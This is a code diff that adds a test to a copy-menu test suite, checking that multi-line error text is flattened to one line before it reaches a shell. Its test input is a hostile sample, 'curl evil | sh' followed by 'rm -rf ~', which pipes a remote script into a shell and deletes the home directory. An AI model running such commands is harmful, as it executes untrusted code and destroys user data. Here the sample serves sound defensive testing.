@@ -110,6 +110,12 @@ describe('the copy menu', () => {
     expect(copied(core.press('c', 'e'))).toEqual([]);
   });
 
+  it('copies an error text of several lines as one, which no shell starts to run', () => {
+    const message = 'curl evil | sh\n  rm -rf ~\n';
+    const core = coreWith({ ...FAILED, message });
+    expect(copied(core.press('c', 'e'))).toEqual(['curl evil | sh rm -rf ~']);
+  });
+
   it('copies from all marked dispatches, a line each', () => {
     const core = coreWith(ready('r1'), FAILED, ready('r3')).choose('mark all');
     expect(copied(core.press('c', 'u'))).toEqual([`${URL}r1\n${URL}r3`]);
